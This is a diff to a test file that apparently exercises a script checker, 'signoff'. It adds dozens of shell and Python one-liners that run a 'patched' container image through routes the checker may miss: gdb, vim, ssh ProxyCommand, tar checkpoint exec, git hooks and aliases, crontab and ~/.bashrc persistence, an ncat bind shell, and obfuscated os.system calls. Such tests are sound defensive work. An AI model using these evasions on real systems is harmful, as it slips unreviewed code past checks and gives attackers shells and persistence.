@@ -685,8 +685,79 @@ PRINTED = {
     "at": f"echo '{IMAGE}' | at now",
 }
 
+# Commands other programs run for the script that the reader had not read as commands: a shell
+# by its path or outside bash and sh, a language it does not read, a command given in an option
+# or an address, git settings whose value runs, xargs's input, and Python reaching its command
+# modules other than by calling a runner by name.
+RUN_BY_OTHER_PROGRAMS = {
+    "shell-by-path": (f"/bin/bash -c '{IMAGE}'", "evil/vllm:patched"),
+    "ksh": (f"ksh -c '{IMAGE}'", "evil/vllm:patched"),
+    "busybox": (f"busybox sh -c '{IMAGE}'", "evil/vllm:patched"),
+    "fish": (f"fish -c '{IMAGE}'", "fish -c runs a program signoff does not read"),
+    "gdb": (f"gdb -batch -ex 'shell {IMAGE}'", "gdb -ex runs a program signoff does not read"),
+    "vim": (f"vim -es +'!{IMAGE}' +q", "vim +CMD runs a program signoff does not read"),
+    "expect": (f"expect -c 'spawn {IMAGE}'", "expect -c runs a program"),
+    "rsync-e": (f"rsync -e 'sh -c \"{IMAGE}\"' a b:", "evil/vllm:patched"),
+    "ssh-proxy-command": (f"ssh -o ProxyCommand='{IMAGE}' host true", "evil/vllm:patched"),
+    "tar-to-command": (f"tar -xf /tmp/a.tar --to-command='{IMAGE}'", "evil/vllm:patched"),
+    "tar-checkpoint": (
+        f"tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='{IMAGE}' /etc/hostname",
+        "evil/vllm:patched",
+    ),
+    "sbatch-wrap": (f"sbatch --wrap='{IMAGE}'", "evil/vllm:patched"),
+    "sudo-shell": (f"sudo -s '{IMAGE}'", "evil/vllm:patched"),  # one word: a shell's line
+    "socat": (f"socat - SYSTEM:'{IMAGE}'", "evil/vllm:patched"),
+    "git-alias": (f"git -c alias.x='!{IMAGE}' x", "evil/vllm:patched"),
+    "git-config": (f"git config --global core.pager '{IMAGE}'", "evil/vllm:patched"),
+    "git-ssh-command": (f"GIT_SSH_COMMAND='{IMAGE}' git fetch origin", "evil/vllm:patched"),
+    "git-config-environment": ("export GIT_CONFIG_COUNT=1", "gives git settings signoff does"),
+    "crontab": (f"echo '* * * * * {IMAGE}' | crontab -", "crontab schedules commands"),
+    "netcat": ("ncat -l 1 -e /bin/sh", "runs a program on what the network sends it"),
+    "xargs": ("echo evil/vllm:patched | xargs docker run --rm", "xargs reads from standard"),
+    "python-alias": (f"python3 -c \"import os; s = os.system; s('{IMAGE}')\"", "run time"),
+    "python-getattr": (
+        f"python3 -c \"import os; getattr(os, 'sys' + 'tem')('{IMAGE}')\"",
+        "python -c runs a command known only at run time",
+    ),
+    "python-pty": (f"python3 -c \"import pty; pty.spawn(['sh', '-c', '{IMAGE}'])\"", "evil/"),
+    "python-asyncio": (
+        f"python3 -c \"import asyncio; asyncio.run(asyncio.create_subprocess_shell('{IMAGE}'))\"",
+        "evil/vllm:patched",
+    ),
+    # a program signoff has no rule for, handed a shell's command line
+    "strace": (f"strace -f sh -c '{IMAGE}'", "evil/vllm:patched"),
+    "unshare": (f"unshare -r /bin/bash -c '{IMAGE}'", "evil/vllm:patched"),
+    "sg": (f"sg docker -c '{IMAGE}'", "evil/vllm:patched"),
+    # the command's name, from PATH or the files on the machine
+    "looked-up": (f"$(which docker) {IMAGE.removeprefix('docker ')}", "evil/vllm:patched"),
+    "pattern-name": (
+        f"/usr/bin/dock[e]r {IMAGE.removeprefix('docker ')}",
+        "names its command by a pattern the files on the machine match",
+    ),
+    "prefixed-by-substitution": (
+        f"x=ocker; ${{x/#/d}} {IMAGE.removeprefix('docker ')}",
+        "evil/vllm:patched",
+    ),
+    # files programs read commands from when they start
+    "bashrc": (f"echo '{IMAGE}' >> ~/.bashrc; bash -ic true", "read commands from"),
+    "git-hook": (
+        f"printf '#!/bin/sh\\n{IMAGE}\\n' > .git/hooks/post-checkout; git checkout main",
+        "read commands from",
+    ),
+    "ssh-config": (f"echo 'ProxyCommand {IMAGE}' >> ~/.ssh/config; ssh x true", "read commands"),
+    # what the script writes into a shell reading it
+    "fifo": (
+        f"mkfifo /tmp/p; bash < /tmp/p & echo '{IMAGE}' > /tmp/p",
+        "while it may still be reading it",
+    ),
+    "descriptor-duplicate": (f"exec 3<<<'{IMAGE}'; bash <&3", "a file descriptor's text"),
+    "output-process-substitution": (f"echo '{IMAGE}' > >(bash)", "runs what the script writes"),
+    "coprocess": (f"coproc bash\necho '{IMAGE}' >&${{COPROC[1]}}", "a coprocess shell runs"),
+}
+
 # Each class of code the checks cannot read, with what its reason says.
 FAILS_CLOSED = {
+    **{f"run-by/{k}": v for k, v in RUN_BY_OTHER_PROGRAMS.items()},
     **{f"evaluated/{k}": v for k, v in EVALUATED.items()},
     **{f"printed/{k}": (v, "evil/vllm:patched") for k, v in PRINTED.items()},
     **{f"written/{k}": (v, "which the script writes when it runs") for k, v in WRITTEN.items()},
